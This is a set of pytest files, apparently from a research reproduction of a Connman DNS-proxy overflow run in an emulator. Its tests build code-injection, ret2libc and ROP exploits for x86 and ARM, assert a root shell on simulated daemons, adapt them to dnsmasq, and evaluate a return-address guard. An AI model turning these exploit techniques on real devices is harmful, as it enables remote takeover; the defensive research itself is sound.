        assert dump.count("*") == len(plan.boundaries)
        assert "000000" in dump and "000080" in dump

    def test_printable_column(self):
        from repro.exploit import fixed

        plan = plan_labels([fill(4), fixed(b"SHELL")])
        assert "SHELL" in plan.hexdump()


class TestDaemonRepeatedCompromise:
    def test_compromise_restart_compromise(self):
        """A respawned daemon is exploitable again (same non-PIE image)."""
        scenario = AttackScenario("arm", "none", NONE)
        exploit = builder_for("arm", NONE).build(attacker_knowledge(scenario))
        victim = fresh_daemon("arm", profile=NONE)
        assert deliver(exploit, victim).got_root_shell
        victim.restart()
        assert victim.alive
        assert deliver(exploit, victim).got_root_shell
        assert victim.boots == 2
        assert len(victim.events) == 2
