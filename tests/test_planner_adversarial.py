"""Adversarial label-planner cases: the layouts that nearly don't plan."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.exploit import (
    ANY_LENGTHS,
    Field,
    PlanError,
    fill,
    fixed,
    plan_labels,
    simulate_expansion,
)


class TestBoundaryGeometry:
    def test_island_of_exactly_63_after_one_slack_byte(self):
        plan = plan_labels([fill(1), fixed(b"B" * 63)])
        assert simulate_expansion(plan.blob) == plan.image
        assert plan.boundaries == [0]

    def test_island_of_64_after_one_slack_byte_fails(self):
        with pytest.raises(PlanError):
            plan_labels([fill(1), fixed(b"B" * 64)])

    def test_island_of_64_with_midpoint_slack_plans(self):
        plan = plan_labels([fill(1), fixed(b"B" * 32), fill(1), fixed(b"B" * 32)])
        assert simulate_expansion(plan.blob) == plan.image

    def test_alternating_single_bytes(self):
        fields = []
        for index in range(30):
            fields.append(fill(1))
            fields.append(fixed(bytes([index])))
        plan = plan_labels(fields)
        assert simulate_expansion(plan.blob) == plan.image

    def test_restricted_lengths_respected_under_pressure(self):
        # Only length 2 allowed: every boundary consumes exactly 3 bytes.
        only_two = frozenset({2})
        plan = plan_labels([fill(30, allowed=only_two)])
        assert all(len(label) == 2 for label in plan.labels)
        assert len(plan.labels) == 10

    def test_unsatisfiable_restriction_fails(self):
        # Length 5 can never land the next boundary on a multiple of 6... it
        # can (6-byte stride divides 30); use a length that overshoots the end.
        only_big = frozenset({63})
        with pytest.raises(PlanError):
            plan_labels([fill(10, allowed=only_big)])

    def test_single_byte_payload_unplannable(self):
        # A boundary needs at least one content byte after it; a 1-byte
        # image cannot host any label.
        with pytest.raises(PlanError):
            plan_labels([fill(1)])

    def test_two_byte_payload(self):
        plan = plan_labels([fill(2)])
        assert len(plan.image) == 2
        assert simulate_expansion(plan.blob) == plan.image

    def test_field_order_preserved(self):
        plan = plan_labels([fill(4), fixed(b"ONE"), fill(4), fixed(b"TWO")])
        assert plan.image.find(b"ONE") < plan.image.find(b"TWO")


class TestPlannerChoicesAreMinimal:
    def test_prefers_fewest_boundaries(self):
        # 127 fully-slack bytes: 2 labels (63+63) suffice.
        plan = plan_labels([fill(130)])
        assert len(plan.labels) == 3  # 63 + 63 + 2? greedy: 64*2=128, rest 2

    def test_fixed_tail_forces_early_boundary(self):
        plan = plan_labels([fill(80), fixed(b"T" * 40)])
        # The last boundary must sit in the slack but cover the 40-byte tail.
        last = plan.boundaries[-1]
        assert last < 80
        assert last + 1 + plan.image[last] == len(plan.image)


@settings(max_examples=60, deadline=None)
@given(
    slack=st.integers(min_value=1, max_value=8),
    island=st.integers(min_value=1, max_value=55),
    repeats=st.integers(min_value=1, max_value=10),
)
def test_property_slack_island_alternation_always_plans(slack, island, repeats):
    # Feasibility requires slack + island <= 64: from any boundary inside a
    # slack run, the next slack run must start within one max-size label.
    fields = []
    for _ in range(repeats):
        fields.append(fill(slack))
        fields.append(fixed(b"\xee" * island))
    plan = plan_labels(fields)
    expansion = simulate_expansion(plan.blob)
    assert expansion == plan.image
    assert expansion.count(b"\xee" * island) >= 1


def test_tight_geometry_is_genuinely_unplannable():
    """slack=2 before a 63-byte island: position 0 must be a boundary, but
    no label length can reach the next patchable cell — a real limit of
    the encoding, not of the planner."""
    with pytest.raises(PlanError):
        plan_labels([fill(2), fixed(b"\xee" * 63), fill(2), fixed(b"\xee" * 63)])
