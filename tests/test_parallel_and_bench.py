"""Parallel sweep runner determinism and the benchmark baseline."""

import json
from pathlib import Path

import pytest

from repro.core import (
    collect_baseline,
    resolve_workers,
    run_chaos_sweep,
    run_reliability_study,
    run_tasks,
    sweep_bruteforce_entropy,
    validate_baseline,
)
from repro.core.experiments import e10_bruteforce
from repro.obs import Collector
from repro.obs.metrics import Histogram, MetricsRegistry

BENCH_PATH = Path(__file__).resolve().parent.parent / "benchmarks" / "BENCH.json"


def _square(value):
    return value * value


class TestRunTasks:
    def test_results_positional_sequential(self):
        assert run_tasks(_square, [3, 1, 4, 1, 5], workers=1) == [9, 1, 16, 1, 25]

    def test_results_positional_parallel(self):
        assert run_tasks(_square, list(range(20)), workers=2) == [
            value * value for value in range(20)
        ]

    def test_empty_task_list(self):
        assert run_tasks(_square, [], workers=4) == []

    def test_resolve_workers(self):
        assert resolve_workers(3) == 3
        assert resolve_workers(1) == 1
        assert resolve_workers(None) >= 1
        assert resolve_workers(0) >= 1


class TestParallelParity:
    """workers=N must reproduce the sequential results bit for bit."""

    def test_entropy_sweep_parallel_matches_sequential(self):
        kwargs = dict(entropy_series=(16, 64), runs_per_point=2)
        sequential = sweep_bruteforce_entropy(workers=1, **kwargs)
        parallel = sweep_bruteforce_entropy(workers=2, **kwargs)
        assert [point.attempts for point in parallel] == \
               [point.attempts for point in sequential]

    def test_chaos_sweep_parallel_matches_sequential(self):
        kwargs = dict(queries_per_rate=6, attack_budget=6)
        sequential = run_chaos_sweep((0.0, 0.4), workers=1, **kwargs)
        parallel = run_chaos_sweep((0.0, 0.4), workers=2, **kwargs)
        assert parallel.cells == sequential.cells

    def test_chaos_sweep_parallel_merges_worker_metrics(self):
        kwargs = dict(queries_per_rate=6, attack_budget=6)
        seq_collector, par_collector = Collector(), Collector()
        sequential = run_chaos_sweep((0.0, 0.4), workers=1,
                                     observer=seq_collector, **kwargs)
        parallel = run_chaos_sweep((0.0, 0.4), workers=2,
                                   observer=par_collector, **kwargs)
        assert parallel.cells == sequential.cells
        assert par_collector.metrics.counters() == seq_collector.metrics.counters()

    def test_chaos_sweep_parallel_merges_worker_spans(self):
        """Span-tree integrity under workers=2: ids, parent links, and
        durations all match the sequential sweep (deterministic adopt)."""
        kwargs = dict(queries_per_rate=6, attack_budget=6)
        seq_collector, par_collector = Collector(), Collector()
        run_chaos_sweep((0.0, 0.4), workers=1, observer=seq_collector, **kwargs)
        run_chaos_sweep((0.0, 0.4), workers=2, observer=par_collector, **kwargs)
        assert par_collector.tracer.spans  # the sweep actually traced
        assert par_collector.tracer.signature() == seq_collector.tracer.signature()

        def links(tracer):
            return [(s.span_id, s.parent_id, s.name, s.duration)
                    for s in tracer.spans]

        assert links(par_collector.tracer) == links(seq_collector.tracer)

    def test_chaos_sweep_parallel_merges_worker_series(self):
        """Time-series parity under workers=2: the adopted worker stores
        reproduce the sequential sweep's sampled series bit for bit."""
        from repro.obs import TimeSeriesStore

        kwargs = dict(queries_per_rate=6, attack_budget=6)
        seq_collector = Collector(series=TimeSeriesStore())
        par_collector = Collector(series=TimeSeriesStore())
        run_chaos_sweep((0.0, 0.2, 0.5), workers=1,
                        observer=seq_collector, **kwargs)
        run_chaos_sweep((0.0, 0.2, 0.5), workers=2,
                        observer=par_collector, **kwargs)
        assert par_collector.series.timeline  # the sweep actually sampled
        assert par_collector.clock == seq_collector.clock
        seq_dict = seq_collector.series.to_dict()
        par_dict = par_collector.series.to_dict()
        assert json.dumps(par_dict, sort_keys=True) == \
               json.dumps(seq_dict, sort_keys=True)

    def test_reliability_study_parallel_matches_sequential(self):
        sequential = run_reliability_study(trials=2, workers=1)
        parallel = run_reliability_study(trials=2, workers=2)
        assert parallel == sequential

    def test_e10_parallel_matches_sequential(self):
        sequential = e10_bruteforce(max_attempts=512, workers=1)
        parallel = e10_bruteforce(max_attempts=512, workers=2)
        assert parallel.rows == sequential.rows


class TestMetricsMerge:
    def test_counter_merge_adds(self):
        left, right = MetricsRegistry(), MetricsRegistry()
        left.inc("a", 3)
        right.inc("a", 4)
        right.inc("b", 1)
        left.merge(right)
        assert left.counters() == {"a": 7, "b": 1}

    def test_histogram_merge_sums_observations(self):
        left = Histogram("lat", (1.0, 10.0))
        right = Histogram("lat", (1.0, 10.0))
        left.observe(0.5)
        right.observe(5.0)
        right.observe(50.0)
        left.merge(right)
        assert left.count == 3
        assert left.total == 55.5
        assert left.min == 0.5
        assert left.max == 50.0
        assert left.bucket_counts == [1, 1, 1]

    def test_histogram_merge_rejects_mismatched_buckets(self):
        left = Histogram("lat", (1.0, 10.0))
        right = Histogram("lat", (1.0, 5.0))
        with pytest.raises(ValueError, match="mismatched"):
            left.merge(right)

    def test_registry_merge_is_order_independent(self):
        def worker_registry(seed):
            registry = MetricsRegistry()
            registry.inc("events", seed)
            registry.observe("lat", float(seed))
            return registry

        forward, backward = MetricsRegistry(), MetricsRegistry()
        for seed in (1, 2, 3):
            forward.merge(worker_registry(seed))
        for seed in (3, 2, 1):
            backward.merge(worker_registry(seed))
        assert forward.to_dict() == backward.to_dict()


class TestBench:
    def test_collect_baseline_validates_and_beats_ratio_floor(self):
        payload = validate_baseline(collect_baseline(steps=1200))
        decode_entries = [e for e in payload["benchmarks"]
                          if e["kind"] == "decode-cache"]
        block_entries = [e for e in payload["benchmarks"] if e["kind"] == "blocks"]
        assert len(decode_entries) == 2 and len(block_entries) == 2
        for entry in decode_entries:
            assert entry["decode_call_ratio"] >= 3.0
            assert entry["baseline"]["decode_calls"] == 1200
            assert entry["cached"]["decode_calls"] < 1200 / 3
        for entry in block_entries:
            # 9-insn loop: all but the final budget remainder runs in blocks.
            # (The remainder single-steps and may build small tail blocks it
            # never executes, so builds is small but not exactly 1.)
            assert entry["block_step_share"] >= 0.99
            assert entry["baseline"]["block_steps"] == 0
            assert 1 <= entry["cached"]["block_builds"] <= 4
            assert entry["cached"]["steps"] == 1200

    def test_committed_baseline_validates(self):
        assert BENCH_PATH.exists(), "benchmarks/BENCH.json must be committed"
        payload = validate_baseline(json.loads(BENCH_PATH.read_text()))
        assert {entry["arch"] for entry in payload["benchmarks"]} == {"x86", "arm"}
        assert {entry["kind"] for entry in payload["benchmarks"]} == \
            {"decode-cache", "blocks"}
        for entry in payload["benchmarks"]:
            assert entry["wall_speedup"] > 1.0
        for entry in payload["benchmarks"]:
            # The committed payload must carry the superblock headline: at
            # least 1.5x over the decode-cache-only dispatch baseline.
            if entry["kind"] == "blocks":
                assert entry["wall_speedup"] >= 1.5

    def test_validate_rejects_wrong_schema(self):
        with pytest.raises(ValueError, match="schema"):
            validate_baseline({"schema": "nope", "benchmarks": []})

    def test_validate_rejects_cache_that_never_hit(self):
        payload = collect_baseline(steps=1200)
        payload["benchmarks"][0]["decode_call_ratio"] = 1.0
        with pytest.raises(ValueError, match="acceptance floor"):
            validate_baseline(payload)
