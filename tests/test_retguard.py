"""§VII lightweight return-address guard."""

import random

from repro.connman import ConnmanDaemon, EventKind
from repro.core import AttackScenario, attacker_knowledge
from repro.defenses import NONE, WX_ASLR, ProtectionProfile, ReturnAddressGuard
from repro.dns import SimpleDnsServer, StubResolver
from repro.exploit import (
    ArmRopMemcpyExeclp,
    X86CodeInjection,
    X86Ret2Libc,
    X86RopMemcpyExeclp,
    deliver,
)
from repro.othercves import DNSMASQ, AdaptedService, adapt_exploit, deliver_to_service
from tests.conftest import fresh_daemon

GUARDED = ProtectionProfile(ret_guard=True)
GUARDED_FULL = ProtectionProfile(wx=True, aslr=True, ret_guard=True)


class TestGuardPrimitive:
    def test_protect_restore_roundtrip(self):
        guard = ReturnAddressGuard(random.Random(1))
        for value in (0, 0x08048123, 0xFFFFFFFF):
            assert guard.restore(guard.protect(value)) == value

    def test_key_nontrivial(self):
        for seed in range(32):
            key = ReturnAddressGuard(random.Random(seed)).key
            assert key & 0xFFFF and key >> 16

    def test_keys_vary_per_boot(self):
        keys = {ReturnAddressGuard(random.Random(seed)).key for seed in range(32)}
        assert len(keys) > 16

    def test_plaintext_decrypts_to_garbage(self):
        guard = ReturnAddressGuard(random.Random(3))
        assert guard.restore(0x08048123) != 0x08048123


class TestGuardedDaemon:
    def test_benign_traffic_unaffected(self):
        daemon = fresh_daemon("x86", profile=GUARDED)
        upstream = SimpleDnsServer(zone={"ok.example": "1.2.3.4"})
        result = StubResolver().resolve(
            lambda packet: daemon.handle_client_query(packet, upstream.handle_query),
            "ok.example",
        )
        assert result.ok and daemon.alive

    def test_ret_slot_holds_ciphertext(self):
        daemon = fresh_daemon("arm", profile=GUARDED)
        upstream = SimpleDnsServer(zone={"ok.example": "1.2.3.4"})
        StubResolver().resolve(
            lambda packet: daemon.handle_client_query(packet, upstream.handle_query),
            "ok.example",
        )
        place = daemon.proxy.placement()
        stored = daemon.loaded.process.memory.read_u32(place.ret_slot)
        assert stored != daemon.loaded.address_of("dnsproxy_resume")

    def test_blocks_code_injection(self):
        knowledge = attacker_knowledge(AttackScenario("x86", "none", NONE))
        report = deliver(X86CodeInjection().build(knowledge),
                         fresh_daemon("x86", profile=GUARDED))
        assert report.event.kind == EventKind.CRASHED
        assert not report.got_root_shell

    def test_blocks_ret2libc(self):
        knowledge = attacker_knowledge(AttackScenario("x86", "W^X", GUARDED))
        report = deliver(X86Ret2Libc().build(knowledge),
                         fresh_daemon("x86", profile=GUARDED.with_(wx=True)))
        assert report.event.kind == EventKind.CRASHED

    def test_blocks_rop_both_arches(self):
        for arch, builder in (("x86", X86RopMemcpyExeclp()), ("arm", ArmRopMemcpyExeclp())):
            knowledge = attacker_knowledge(AttackScenario(arch, "full", WX_ASLR))
            report = deliver(builder.build(knowledge),
                             fresh_daemon(arch, profile=GUARDED_FULL))
            assert report.event.kind == EventKind.CRASHED, arch

    def test_degrades_rce_to_dos_not_silence(self):
        """The guard converts hijack to crash: the device still loses DNS."""
        knowledge = attacker_knowledge(AttackScenario("x86", "full", WX_ASLR))
        victim = fresh_daemon("x86", profile=GUARDED_FULL)
        deliver(X86RopMemcpyExeclp().build(knowledge), victim)
        assert not victim.alive
        assert not victim.compromised

    def test_key_redrawn_on_restart(self):
        daemon = fresh_daemon("x86", profile=GUARDED)
        first = daemon.proxy.ret_guard.key
        keys = set()
        for _ in range(4):
            daemon.restart()
            keys.add(daemon.proxy.ret_guard.key)
        assert keys - {first}

    def test_guard_label(self):
        assert "ret-guard" in GUARDED.label()


class TestGuardedAdaptedServices:
    def test_guard_blocks_adapted_exploit(self):
        service = AdaptedService(DNSMASQ, profile=GUARDED)
        exploit = adapt_exploit(X86CodeInjection(), service, aslr_blind=False)
        report = deliver_to_service(exploit, service)
        assert report.event.kind == EventKind.CRASHED
        assert not report.got_root_shell
