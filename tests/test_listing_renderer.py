"""Paper-Listing rendering of planned payloads."""

from repro.cli import main
from repro.core import AttackScenario, attacker_knowledge
from repro.defenses import NONE, WX, WX_ASLR
from repro.exploit import (
    ArmExeclpGadget,
    ArmRopMemcpyExeclp,
    X86RopMemcpyExeclp,
    fill,
    fixed,
    plan_labels,
    render_exploit_listing,
    render_listing,
)


class TestSpans:
    def test_plan_records_field_spans(self):
        plan = plan_labels([fill(8, note="pad"), fixed(b"ABCD", note="chain word")])
        assert (0, 8, "pad") in plan.spans
        assert (8, 12, "chain word") in plan.spans


class TestRenderListing:
    def test_skips_padding_by_default(self):
        plan = plan_labels([fill(64, note="pad to saved eip"),
                            fixed(b"\xb1\x12\x01\x00", note="gadget")])
        listing = render_listing(plan)
        assert listing.splitlines()[0].endswith("# gadget")

    def test_explicit_offset(self):
        plan = plan_labels([fill(8, note="pad"), fixed(b"\x01\x02\x03\x04", note="x")])
        listing = render_listing(plan, from_offset=0)
        assert listing.splitlines()[0].startswith("+ '")

    def test_escapes_bytes(self):
        plan = plan_labels([fill(4, note="pad"), fixed(b"\xde\xad\xbe\xef", note="marker")])
        assert "\\xde\\xad\\xbe\\xef" in render_listing(plan, from_offset=4)

    def test_max_words_truncates(self):
        plan = plan_labels([fill(4, note="pad"), fixed(b"\x00" * 60, note="chain")])
        listing = render_listing(plan, from_offset=4, max_words=4)
        assert "more bytes" in listing

    def test_repeated_notes_collapse(self):
        plan = plan_labels([fill(4, note="pad"), fixed(b"\x11" * 8, note="same")])
        listing = render_listing(plan, from_offset=4)
        assert listing.count("# same") == 1


class TestExploitListings:
    def test_arm_wx_listing_matches_listing_2_shape(self):
        exploit = ArmExeclpGadget().build(
            attacker_knowledge(AttackScenario("arm", "wx", WX))
        )
        listing = render_exploit_listing(exploit)
        lines = listing.splitlines()
        assert "pop {r0..r7, pc}" in lines[1]
        assert "execlp@plt" in lines[-1]
        # Listing 2 is 9 words: gadget + 8 register/pc slots.
        assert len(lines) == 10  # header + 9 words

    def test_arm_rop_listing_matches_listing_5_shape(self):
        exploit = ArmRopMemcpyExeclp().build(
            attacker_knowledge(AttackScenario("arm", "full", WX_ASLR))
        )
        listing = render_exploit_listing(exploit)
        assert listing.count("blx r3 trampoline") == 2  # one per memcpy call
        assert "copy 's'" in listing and "copy 'h'" in listing

    def test_x86_rop_listing_has_per_char_frames(self):
        exploit = X86RopMemcpyExeclp().build(
            attacker_knowledge(AttackScenario("x86", "full", WX_ASLR))
        )
        listing = render_exploit_listing(exploit, max_words=128)
        assert listing.count("memcpy@plt") == len(b"/bin/sh")

    def test_cli_listing(self, capsys):
        assert main(["listing", "--arch", "arm", "--level", "wx"]) == 0
        out = capsys.readouterr().out
        assert "execlp@plt" in out
