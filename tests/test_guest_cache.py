"""The guest-memory-backed DNS cache."""

import pytest

from repro.connman.gueststore import GuestBackedDnsCache
from repro.dns import SimpleDnsServer, StubResolver
from tests.conftest import fresh_daemon, loaded_pair


def make_cache(size=0x100):
    loaded = loaded_pair("x86")
    storage = loaded.symbol("dns_cache_storage")
    return GuestBackedDnsCache(loaded.process, storage.address, size), loaded


class TestGuestStore:
    def test_put_get(self):
        cache, _loaded = make_cache()
        assert cache.put("a.example", "1.2.3.4")
        assert cache.get("A.Example") == "1.2.3.4"

    def test_miss(self):
        cache, _loaded = make_cache()
        assert cache.get("nope.example") is None

    def test_entries_live_in_guest_memory(self):
        cache, loaded = make_cache()
        cache.put("host.example", "10.0.0.9")
        storage = loaded.symbol("dns_cache_storage")
        raw = loaded.process.memory.read(storage.address, 32)
        assert b"host.example" in raw
        assert bytes([10, 0, 0, 9]) in raw

    def test_multiple_entries(self):
        cache, _loaded = make_cache()
        for index in range(5):
            cache.put(f"h{index}.example", f"10.0.0.{index}")
        assert len(cache) == 5
        assert cache.get("h3.example") == "10.0.0.3"

    def test_ttl_expiry(self):
        cache, _loaded = make_cache()
        cache.put("a.example", "1.1.1.1", ttl=10)
        cache.advance(11)
        assert cache.get("a.example") is None
        assert len(cache) == 0

    def test_full_region_flushes(self):
        cache, _loaded = make_cache(size=0x40)
        for index in range(8):
            cache.put(f"very-long-host-name-{index}.example", "9.9.9.9")
        # Still functional and bounded after wholesale flushes.
        assert len(cache) >= 1

    def test_full_region_compacts_expired_before_flush(self):
        # Region sized for exactly 3 of these 30-byte entries.  With one
        # entry expired, filling up must evict only the dead one — live
        # entries survive.
        cache, _loaded = make_cache(size=0x60)
        cache.put("dead-entry-00.example", "1.1.1.1", ttl=5)
        cache.put("live-entry-01.example", "2.2.2.2", ttl=1000)
        cache.advance(10)  # first entry expires
        cache.put("live-entry-02.example", "3.3.3.3", ttl=1000)
        cache.put("live-entry-03.example", "4.4.4.4", ttl=1000)
        assert cache.get("dead-entry-00.example") is None
        assert cache.get("live-entry-01.example") == "2.2.2.2"
        assert cache.get("live-entry-02.example") == "3.3.3.3"
        assert cache.get("live-entry-03.example") == "4.4.4.4"

    def test_full_region_still_flushes_when_all_live(self):
        cache, _loaded = make_cache(size=0x60)
        for index in range(4):
            cache.put(f"live-entry-{index:02}.example", "9.9.9.9", ttl=1000)
        # No expired entries to compact away: the wholesale flush ran and
        # only the newest entry remains.
        assert len(cache) == 1
        assert cache.get("live-entry-03.example") == "9.9.9.9"

    def test_ipv6_not_stored(self):
        cache, _loaded = make_cache()
        assert not cache.put("v6.example", "20010db8" + "0" * 24)
        assert cache.get("v6.example") is None

    def test_oversized_name_rejected(self):
        cache, _loaded = make_cache()
        assert not cache.put("x" * 300, "1.1.1.1")

    def test_clear(self):
        cache, _loaded = make_cache()
        cache.put("a.example", "1.1.1.1")
        cache.clear()
        assert len(cache) == 0

    def test_dump_renders(self):
        cache, _loaded = make_cache()
        cache.put("a.example", "1.1.1.1")
        text = cache.dump()
        assert "a.example -> 1.1.1.1" in text


class TestDaemonIntegration:
    def test_daemon_cache_is_guest_backed(self):
        daemon = fresh_daemon("arm")
        assert isinstance(daemon.cache, GuestBackedDnsCache)

    def test_resolution_lands_in_guest_bss(self):
        daemon = fresh_daemon("x86")
        upstream = SimpleDnsServer(zone={"cached.example": "5.6.7.8"})
        StubResolver().resolve(
            lambda packet: daemon.handle_client_query(packet, upstream.handle_query),
            "cached.example",
        )
        storage = daemon.loaded.symbol("dns_cache_storage")
        raw = daemon.loaded.process.memory.read(storage.address, 64)
        assert b"cached.example" in raw

    def test_cache_dies_with_the_process(self):
        daemon = fresh_daemon("x86")
        upstream = SimpleDnsServer(zone={"cached.example": "5.6.7.8"})
        StubResolver().resolve(
            lambda packet: daemon.handle_client_query(packet, upstream.handle_query),
            "cached.example",
        )
        assert daemon.cache.get("cached.example") == "5.6.7.8"
        daemon.restart()
        assert daemon.cache.get("cached.example") is None
