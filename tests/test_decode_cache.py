"""Decode cache, fetch-window, reg8 aliasing, and unmap semantics."""

import pytest

from repro.cpu import DecodeCache, Process, make_emulator
from repro.cpu.events import IllegalInstruction
from repro.cpu.registers import X86_REG8, X86_REGISTERS
from repro.cpu.x86.emu import X86Emulator
from repro.mem import AddressSpace, Perm, Segment, UnmappedAddressError, WxViolation


def x86_process(segments, code_at=None):
    space = AddressSpace()
    for segment in segments:
        space.map(segment)
    if code_at:
        for address, code in code_at.items():
            space.write(address, code, check=False)
    return Process("x86", space, name="cache-test")


class TestReg8Aliasing:
    """al/cl/dl/bl write the low byte; ah/ch/dh/bh the second byte."""

    @pytest.mark.parametrize("name", X86_REG8)
    def test_write_reg8_touches_exactly_one_byte(self, name):
        process = x86_process([Segment(".text", 0x1000, 0x100, Perm.RX)])
        emulator = X86Emulator(process)
        for parent in X86_REGISTERS:
            process.registers[parent] = 0x11223344
        emulator._write_reg8(name, 0xAB)
        index = X86_REG8.index(name)
        parent = X86_REGISTERS[index & 3]
        expected = 0x112233AB if index < 4 else 0x1122AB44
        assert process.registers[parent] == expected, name
        for other in X86_REGISTERS:
            if other != parent:
                assert process.registers[other] == 0x11223344, (name, other)

    def test_mov_r8_imm8_executes_into_high_byte(self):
        # mov ah, 0x99 (0xB0+reg encoding, reg index 4 = ah)
        process = x86_process(
            [Segment(".text", 0x1000, 0x100, Perm.RX)],
            code_at={0x1000: b"\xb4\x99"},
        )
        process.registers["eax"] = 0x11223344
        process.pc = 0x1000
        X86Emulator(process).step()
        assert process.registers["eax"] == 0x11229944


class TestFetchWindow:
    """Instruction fetch spans contiguous segments; gaps still truncate."""

    def test_x86_insn_straddling_contiguous_segments_decodes(self):
        # mov eax, 0x11223344 starts 2 bytes before the segment boundary.
        process = x86_process(
            [
                Segment("lo", 0x400000, 0x1000, Perm.RX),
                Segment("hi", 0x401000, 0x1000, Perm.RX),
            ],
            code_at={0x400FFE: b"\xb8\x44\x33\x22\x11"},
        )
        process.pc = 0x400FFE
        X86Emulator(process).step()
        assert process.registers["eax"] == 0x11223344
        assert process.pc == 0x400FFE + 5

    def test_x86_insn_truncated_at_genuine_gap_faults(self):
        process = x86_process(
            [Segment("lo", 0x400000, 0x1000, Perm.RX)],
            code_at={0x400FFE: b"\xb8\x44"},
        )
        process.pc = 0x400FFE
        with pytest.raises(IllegalInstruction):
            X86Emulator(process).step()

    def test_arm_word_straddling_contiguous_segments_decodes(self):
        from repro.cpu.arm.asm import add_imm

        space = AddressSpace()
        space.map(Segment("lo", 0x10000, 2, Perm.RX))
        space.map(Segment("hi", 0x10002, 0x1000, Perm.RX))
        space.write(0x10000, add_imm("r1", "r1", 1), check=False)
        process = Process("arm", space, name="cache-test")
        process.pc = 0x10000
        make_emulator(process).step()
        assert process.registers["r1"] == 1

    def test_contiguous_span_stops_at_gap(self):
        space = AddressSpace()
        space.map(Segment("a", 0x1000, 0x100, Perm.RX))
        space.map(Segment("b", 0x1100, 0x100, Perm.RX))
        space.map(Segment("c", 0x2000, 0x100, Perm.RX))
        assert space.contiguous_span(0x10F0, 64) == 64  # spans a→b
        assert space.contiguous_span(0x11F0, 64) == 16  # gap after b
        with pytest.raises(UnmappedAddressError):
            space.contiguous_span(0x3000, 4)


class TestDecodeCacheSemantics:
    def test_steady_state_is_all_hits(self):
        # 8x inc eax + jmp back: 9 distinct instructions.
        process = x86_process(
            [Segment(".text", 0x1000, 0x100, Perm.RX)],
            code_at={0x1000: b"\x40" * 8 + b"\xeb\xf6"},
        )
        process.pc = 0x1000
        emulator = X86Emulator(process)
        for _ in range(30):
            emulator.step()
        cache = process.decode_cache
        assert cache.misses == 9
        assert cache.hits == 21

    def test_disabled_cache_decodes_every_step(self):
        process = x86_process(
            [Segment(".text", 0x1000, 0x100, Perm.RX)],
            code_at={0x1000: b"\x40" * 8 + b"\xeb\xf6"},
        )
        process.decode_cache.enabled = False
        process.pc = 0x1000
        emulator = X86Emulator(process)
        for _ in range(30):
            emulator.step()
        assert process.decode_cache.misses == 30
        assert process.decode_cache.hits == 0

    def test_self_modifying_code_executes_new_bytes(self):
        process = x86_process(
            [Segment("rwx", 0x1000, 0x100, Perm.RWX)],
            code_at={0x1000: b"\x40"},  # inc eax
        )
        process.pc = 0x1000
        emulator = X86Emulator(process)
        emulator.step()
        assert process.registers["eax"] == 1
        assert len(process.decode_cache) == 1
        process.memory.write(0x1000, b"\x41")  # overwrite with inc ecx
        process.pc = 0x1000
        emulator.step()
        assert process.registers["ecx"] == 1
        assert process.registers["eax"] == 1
        assert process.decode_cache.invalidations >= 1

    def test_remap_at_same_base_invalidates_via_epoch(self):
        process = x86_process(
            [Segment("old", 0x1000, 0x100, Perm.RX)],
            code_at={0x1000: b"\x40"},  # inc eax
        )
        process.pc = 0x1000
        emulator = X86Emulator(process)
        emulator.step()
        space = process.memory
        space.unmap("old")
        space.map(Segment("new", 0x1000, 0x100, Perm.RX))
        space.write(0x1000, b"\x41", check=False)  # inc ecx
        process.pc = 0x1000
        emulator.step()
        assert process.registers["ecx"] == 1

    def test_wx_still_enforced_with_cache_on(self):
        process = x86_process([Segment("data", 0x1000, 0x100, Perm.RW)])
        process.memory.write(0x1000, b"\x40")
        process.pc = 0x1000
        with pytest.raises(WxViolation):
            X86Emulator(process).step()
        assert len(process.decode_cache) == 0


class TestCrossPageEntries:
    """Entries whose bytes straddle a page boundary track every page."""

    def test_second_page_write_invalidates_cross_page_entry(self):
        # mov eax, imm32 at 0x1FFE: opcode on page 1, the immediate's last
        # three bytes on page 2.  A write that touches only the second page
        # must still drop the cached decode.
        process = x86_process(
            [Segment("rwx", 0x1000, 0x2000, Perm.RWX)],
            code_at={0x1FFE: b"\xb8\x44\x33\x22\x11"},
        )
        process.pc = 0x1FFE
        emulator = X86Emulator(process)
        emulator.step()
        assert process.registers["eax"] == 0x11223344
        process.memory.write(0x2001, b"\x55")  # the 0x22 immediate byte
        process.pc = 0x1FFE
        emulator.step()
        assert process.registers["eax"] == 0x11553344
        assert process.decode_cache.invalidations >= 1

    def test_first_page_write_also_invalidates_cross_page_entry(self):
        process = x86_process(
            [Segment("rwx", 0x1000, 0x2000, Perm.RWX)],
            code_at={0x1FFE: b"\xb8\x44\x33\x22\x11"},
        )
        process.pc = 0x1FFE
        emulator = X86Emulator(process)
        emulator.step()
        process.memory.write(0x1FFF, b"\x99")  # low immediate byte, page 1
        process.pc = 0x1FFE
        emulator.step()
        assert process.registers["eax"] == 0x11223399


class TestInvalidationAccounting:
    """Epoch flushes and per-entry drops are distinct events and counters."""

    def test_self_modify_counts_invalidation_not_epoch_flush(self):
        process = x86_process(
            [Segment("rwx", 0x1000, 0x100, Perm.RWX)],
            code_at={0x1000: b"\x40"},
        )
        process.pc = 0x1000
        emulator = X86Emulator(process)
        emulator.step()
        process.memory.write(0x1000, b"\x41")
        process.pc = 0x1000
        emulator.step()
        cache = process.decode_cache
        assert cache.invalidations == 1
        assert cache.epoch_flushes == 0

    def test_remap_counts_epoch_flush_not_invalidation(self):
        process = x86_process(
            [Segment("old", 0x1000, 0x100, Perm.RX)],
            code_at={0x1000: b"\x40"},
        )
        process.pc = 0x1000
        emulator = X86Emulator(process)
        emulator.step()
        space = process.memory
        space.unmap("old")
        space.map(Segment("new", 0x1000, 0x100, Perm.RX))
        space.write(0x1000, b"\x41", check=False)
        process.pc = 0x1000
        emulator.step()
        cache = process.decode_cache
        assert cache.epoch_flushes == 1
        assert cache.invalidations == 0

    def test_repeated_unmap_remap_never_serves_stale_decodes(self):
        # Three map/write/execute/unmap rounds at the same base: each round
        # must execute its own fresh bytes, never a prior round's decode.
        targets = ("eax", "ecx", "edx")
        opcodes = (b"\x40", b"\x41", b"\x42")
        process = x86_process([Segment("seed", 0x2000, 0x100, Perm.RX)])
        emulator = X86Emulator(process)
        for round_index, (target, opcode) in enumerate(zip(targets, opcodes)):
            name = f"round{round_index}"
            process.memory.map(Segment(name, 0x1000, 0x100, Perm.RX))
            process.memory.write(0x1000, opcode, check=False)
            process.pc = 0x1000
            emulator.step()
            process.memory.unmap(name)
        for target in targets:
            assert process.registers[target] == 1, target
        assert process.decode_cache.epoch_flushes >= 2


class TestUnmapSemantics:
